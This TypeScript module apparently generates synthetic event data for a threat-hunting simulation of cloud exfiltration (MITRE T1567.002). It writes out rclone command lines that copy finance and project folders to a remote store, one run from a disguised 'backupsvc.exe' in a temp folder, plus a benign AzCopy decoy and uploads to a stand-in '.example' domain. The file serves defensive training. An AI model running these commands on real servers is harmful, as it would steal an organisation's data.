import { MINUTE_MS, SECOND_MS, type Span } from '../../core/time.ts';
import { anyAddress } from '../addresses.ts';
import type { Traffic } from '../connect.ts';
import type { Host, Office } from '../office.ts';
import type { Attack, Plan, Plant } from '../plant.ts';
import { Draws } from '../random.ts';
import { hoursBefore, Scene, SYSTEM_ACCOUNT } from '../scene.ts';

const NAME = 'cloud-exfiltration';
const UPLOAD: Traffic = { port: 443, sent: 180_000_000, received: 400_000, lastsMs: 150_000 };

interface Tool {
  readonly id: string;
  readonly path: string;
  readonly line: string;
  readonly originalName: string;
  readonly signer: string | null;
  readonly times: number;
}

/** rclone on a file server, once under its own name and once under another; a tool of the administrators beside it. */
export function cloudExfiltration(office: Office, span: Span): Attack {
  const draws = new Draws(office.seed, NAME);
  const plan = { office, span, draws };
  const [first, second] = draws.shuffle(office.byRole.server);
  return {
    name: NAME,
    technique: 'T1567.002',
    hunt: null,
    plants: [
      ...(first === undefined ? [] : [copy(plan, first, RCLONE, null)]),
      ...(second === undefined ? [] : [copy(plan, second, RENAMED, null)]),
      ...office.byRole['jump host']
        .slice(0, 1)
        .map((host) => copy(plan, host, AZCOPY, 'A signed tool in Program Files, by an administrator, on a jump host')),
    ],
  };
}

const RCLONE: Tool = {
  id: NAME,
  path: 'C:\\ProgramData\\rclone.exe',
  line: 'rclone.exe copy D:\\Finance remote:backup --transfers 16 --no-check-certificate',
  originalName: 'rclone.exe',
  signer: null,
  times: 24,
};
const RENAMED: Tool = {
  id: `${NAME}.renamed`,
  path: 'C:\\Windows\\Temp\\backupsvc.exe',
  line: 'C:\\Windows\\Temp\\backupsvc.exe sync D:\\Projects m: --config c.conf',
  originalName: 'rclone.exe',
  signer: null,
  times: 12,
};
const AZCOPY: Tool = {
  id: `${NAME}.azcopy`,
  path: 'C:\\Program Files\\AzCopy\\azcopy.exe',
  line: 'azcopy.exe sync D:\\Images https://images.blob.example/web --recursive',
  originalName: 'azcopy.exe',
  signer: 'Microsoft Corporation',
  times: 4,
};

function copy(plan: Plan, host: Host, tool: Tool, because: string | null): Plant {
  const { id, path, line, originalName, signer, times } = tool;
  const scene = new Scene(plan, id, hoursBefore(plan, 7));
  const account = host.user.works === null ? SYSTEM_ACCOUNT : host.user;
  const process = scene.start(host, { path, line, parent: scene.desktop(host), account, signer, originalName });
  const domain = `store-${plan.draws.hex(6)}.example`;
  const ip = anyAddress(plan.draws);
  scene.wait(2 * SECOND_MS).lookup(process, domain, [ip]);
  for (let left = times; left > 0; left--) scene.wait(MINUTE_MS).connect(process, { ip, domain }, UPLOAD);
  return scene.plant(`${times} uploads of some hundred megabytes to one store by ${originalName}`, because);
}
